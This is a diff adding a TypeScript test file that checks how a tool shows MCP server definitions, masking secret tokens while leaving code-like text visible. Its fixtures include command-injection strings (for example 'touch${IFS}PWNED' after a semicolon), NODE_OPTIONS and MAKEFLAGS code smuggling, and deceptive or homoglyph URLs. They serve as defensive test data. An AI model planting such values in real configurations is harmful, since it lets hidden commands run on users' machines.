@@ -1,0 +1,189 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { visible } from '../../src/base/visible.ts';
+import { destination, showDefinition } from '../../src/servers/mask.ts';
+import { literalSecrets } from '../../src/servers/secrets.ts';
+import type { Definition } from '../../src/servers/types.ts';
+import { often } from '../effort.ts';
+import { anyStdio, http, type Stdio, stdio } from './definitions.ts';
+
+const PROJECT = { scope: 'project' } as const;
+
+describe("what is shown of the user's own files", () => {
+  it.each<[Definition, string]>([
+    [stdio(['-y', 'a b', "it's"]), `npx -y 'a b' 'it'\\''s'`],
+    [
+      stdio(['x'], { env: { API_KEY: 'hidden-1' }, passEnv: ['HOST'], cwd: '/a b' }),
+      "API_KEY=*** HOST=$HOST npx x (in '/a b')",
+    ],
+    [stdio(['--api-key', 'hidden-1', '--port', '80']), 'npx --api-key *** --port 80'],
+    [stdio(['--token=hidden-1', '--accessToken', 'hidden-1']), 'npx --token=*** --accessToken ***'],
+    [stdio(['--token', '${TOKEN}']), "npx --token '${TOKEN}'"],
+    [stdio(['--token', '${TOKEN:-hidden-1}']), 'npx --token ***'],
+    [stdio(['-e', 'GITHUB_TOKEN=hidden-1']), 'npx -e GITHUB_TOKEN=***'],
+    [stdio(['-H', 'Authorization: Bearer hidden-1']), "npx -H 'Authorization: ***'"],
+    [stdio(['ghp_0123456789abcdefghijhidden']), 'npx ***'],
+    [stdio(['postgres://u:hidden-1@db/x']), 'npx postgres://***@db/x'],
+    [stdio(['--env=API_TOKEN=hidden-1']), 'npx --env=API_TOKEN=***'],
+    [stdio(['{"apiKey": "hidden-1"}']), `npx '{"apiKey": "***"}'`],
+    [stdio(['Server=db;Password=hidden-1;Port=1']), "npx 'Server=db;Password=***;Port=1'"],
+    [stdio(['-e', 'PASSPHRASE=hidden-1 hidden-2']), 'npx -e PASSPHRASE=***'],
+    [
+      stdio([], { env: { GIT_TOKEN: 'hidden-1', PLAIN: 'hidden-2', NAMED: '${OTHER}' } }),
+      "GIT_TOKEN=*** PLAIN=*** NAMED='${OTHER}' npx",
+    ],
+    [http('https://a.example/mcp/hidden0123456789abcdef/sse'), 'https://a.example/mcp/***/sse'],
+    [http('https://a.example/mcp#access_token=hidden-1'), 'https://a.example/mcp#access_token=***'],
+    [stdio(['a\u202Eb\nc']), "npx 'a<U+202E>b<U+000A>c'"],
+    [http('https://u:hidden-1@a.example/mcp?key=hidden-1&v=2'), 'https://***@a.example/mcp?key=***&v=***'],
+    [
+      http('https://a.example/mcp', {
+        headers: { 'X-Key': 'hidden-1', 'X-Team': '${TEAM}' },
+        bearerEnv: 'TOKEN',
+        envHeaders: { 'X-B': 'B' },
+      }),
+      'https://a.example/mcp (headers: X-Key, X-Team: ${TEAM}, X-B: $B, Authorization: Bearer $TOKEN)',
+    ],
+  ])('%j', (definition, shown) => {
+    expect(showDefinition(definition)).toBe(shown);
+    expect(showDefinition(definition)).not.toContain('hidden');
+  });
+});
+
+describe('what is shown of a stranger’s file', () => {
+  it.each<[Definition, string]>([
+    // Tokens are left out.
+    [
+      stdio(['-y', 'srv', '--api-key', 'hidden-1', '--token=hidden-1'], { env: { API_KEY: 'hidden-1' } }),
+      'API_KEY=*** npx -y srv --api-key *** --token=***',
+    ],
+    [stdio(['API_TOKEN=hidden-1'], { command: 'srv' }), 'srv API_TOKEN=***'],
+    [
+      stdio(['db://u:hidden-1@db/x?key=hidden-1&v=2'], { command: 'srv' }),
+      "srv 'db://u:***@db/x?key=***&v=2'",
+    ],
+    [
+      http('https://a.example/?key=hidden-1', { headers: { Authorization: 'Bearer hidden-1' } }),
+      'https://a.example/?key=*** (headers: Authorization: Bearer ***)',
+    ],
+  ])('leaves out what is wholly a token: %j', (definition, shown) => {
+    expect(showDefinition(definition, PROJECT)).toBe(shown);
+    expect(showDefinition(definition, PROJECT)).not.toContain('hidden');
+  });
+
+  it.each<[Definition, string]>([
+    [stdio(['-c', 'TOKEN=a; evil'], { command: 'sh' }), "sh -c 'TOKEN=a; evil'"],
+    [stdio(['-c', 'TOKEN=Bearer ./evil srv'], { command: 'sh' }), "sh -c 'TOKEN=Bearer ./evil srv'"],
+    [stdio(['-c', 'TOKEN=evil'], { command: 'sh' }), 'sh -c TOKEN=evil'],
+    [
+      stdio(['-c', 'x http://x/?token=abc;touch${IFS}PWNED'], { command: 'sh' }),
+      "sh -c 'x http://x/?token=abc;touch${IFS}PWNED'",
+    ],
+    [stdio(['--token', 'a;evil']), "npx --token 'a;evil'"],
+    [stdio(['--token', 'evil-pkg']), 'npx --token evil-pkg'],
+    [stdio(['exec', '--token', 'evil-pkg'], { command: 'npm' }), 'npm exec --token evil-pkg'],
+    [stdio(['npx', '-y', '--token', 'evil-pkg'], { command: 'env' }), 'env npx -y --token evil-pkg'],
+    [stdio(['-key', './evil'], { command: 'zsh' }), 'zsh -key ./evil'],
+    [stdio(['--key', './evil'], { command: 'srv' }), 'srv --key ./evil'],
+    [stdio(['run', 'https://x/?key=evil.ts'], { command: 'deno' }), "deno run 'https://x/?key=evil.ts'"],
+    [stdio(['rk-evil-evil-evil-evil-0']), 'npx rk-evil-evil-evil-evil-0'],
+    [stdio(['-H', 'Authorization: Bearer abc']), "npx -H 'Authorization: Bearer abc'"],
+    [
+      stdio(['--from', 'git+https://evil.com\\@github.com/me/x'], { command: 'uvx' }),
+      "uvx --from 'git+https://evil.com\\@github.com/me/x'",
+    ],
+    // Its shell would run what the variable holds.
+    [stdio(['-c', '$A_KEY'], { command: 'sh', env: { A_KEY: 'evil' } }), "A_KEY=evil sh -c '$A_KEY'"],
+    [
+      stdio([], {
+        env: { MAKEFLAGS: 's --eval=x', NODE_OPTIONS: '--import=data:,/*?token=*/evil', X: '$SECRET' },
+      }),
+      "MAKEFLAGS='s --eval=x' NODE_OPTIONS='--import=data:,/*?token=*/evil' X='$SECRET' npx",
+    ],
+    [stdio([], { env: { 'A=1 good #': 'x' }, command: 'B=2' }), "'A=1 good #=x' 'B=2'"],
+    [
+      http('https://a.example', { headers: { 'X-Team': '${AWS_SECRET_ACCESS_KEY}', 'X: a), (y': 'b, c' } }),
+      "https://a.example/ (headers: X-Team: ${AWS_SECRET_ACCESS_KEY}, 'X: a), (y': 'b, c')",
+    ],
+    [http('HTTPS://ｅvil.example:443/a/../b?x=${V}'), 'https://evil.example/b?x=${V}'],
+    [http('https://${HOST}:${PORT}/mcp'), 'https://${HOST}:${PORT}/mcp'],
+    [http('${BASE}/mcp'), '${BASE}/mcp'],
+    [http('https://evil\\@good/'), 'https://evil\\@good/'],
+  ])('hides nothing else: %j', (definition, shown) => {
+    expect(showDefinition(definition, PROJECT)).toBe(shown);
+  });
+
+  it('leaves out nothing that could be code, whatever stands in it', () => {
+    fc.assert(
+      fc.property(anyStdio, (definition) => {
+        const { command, args, env, passEnv = [], cwd } = definition;
+        const line = showDefinition(definition, PROJECT);
+        const words = [
+          ...Object.entries(env).map(([name, value]) => `${name}=${value}`),
+          ...passEnv.map((name) => `${name}=$${name}`),
+          command,
+          ...args,
+          ...(cwd === undefined ? [] : ['(in', `${cwd})`]),
+        ].map(onScreen);
+        const seen = unquoted(line);
+        expect(seen).toHaveLength(words.length);
+        for (const [i, word] of words.entries())
+          if (seen[i] !== word) hidesOnlyTokens(seen[i] ?? '', word, definition);
+      }),
+      often(17),
+    );
+  });
+});
+
+const onScreen = (word: string): string =>
+  visible(word).replaceAll('\n', '<U+000A>').replaceAll('\t', '<U+0009>');
+
+/** The words of a line as a shell reads it: `'` quotes, `\'` stands between two quoted parts. */
+function unquoted(line: string): string[] {
+  const words: string[] = [];
+  let word: string | undefined;
+  for (const [, plain, escaped, inQuotes] of line.matchAll(/([^ '\\]|\\(?!'))|\\(')|'([^']*)'| /g)) {
+    const part = plain ?? escaped ?? inQuotes;
+    if (part !== undefined) word = (word ?? '') + part;
+    else if (word !== undefined) {
+      words.push(word);
+      word = undefined;
+    }
+  }
+  return word === undefined ? words : [...words, word];
+}
+
+function hidesOnlyTokens(seen: string, word: string, { args, env }: Stdio): void {
+  const shape = seen.split('***').map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'));
+  const [, ...hidden] = new RegExp(`^${shape.join('(\\*\\*\\*|[A-Za-z0-9._~+/=-]+)')}$`).exec(word) ?? [];
+  expect(hidden.length, `${seen} | ${word}`).toBeGreaterThan(0);
+  for (const value of hidden) expect(value).not.toMatch(/^[./~-]/);
+  const isVariable = Object.entries(env).some(([name, value]) => word === onScreen(`${name}=${value}`));
+  if (!isVariable) {
+    // A shell, or whatever takes code, gets its word whole.
+    expect(word).not.toMatch(/[\s"'`;|<>()$\\{}]|^[^?]*&/);
+    const flags = args.flatMap((arg, i) => (onScreen(arg) === word ? [args[i - 1] ?? ''] : []));
+    expect(flags.some((flag) => !/^(?:-[ce]|--eval)$/.test(flag))).toBe(true);
+  }
+}
+
+it.each<[Definition, string[]]>([
+  [http('https://a.example', { headers: { Authorization: 'Bearer ${TOKEN}', Accept: 'text/plain' } }), []],
+  [http('https://a.example', { headers: { Authorization: 'Bearer abc' } }), ['Authorization']],
+  [http('https://a.example', { headers: { Authorization: 'Basic ${B64}', 'X-Org': 'acme' } }), []],
+  [http('https://a.example', { headers: { 'X-Session': '0123456789abcdef0123' } }), ['X-Session']],
+  [http('https://a.example?key=abc'), ['URL']],
+  [http('https://a.example/mcp/0123456789abcdefghij'), ['URL']],
+  [stdio(['--api-key', 'abc', '--port', '80']), ['--api-key']],
+  [stdio(['--api-key', '${KEY}']), []],
+])('finds secrets that stand in a definition itself: %j', (definition, found) => {
+  expect(literalSecrets(definition)).toEqual(found);
+});
+
+it.each([
+  ['https://a.example:8443/x', 'a.example:8443'],
+  ['HTTPS://A.example:443', 'a.example'],
+  ['https://evil\\@good/', 'https://***@good/'],
+])('names the host that is reached: %s', (url, host) => {
+  expect(destination(http(url))).toBe(host);
+});
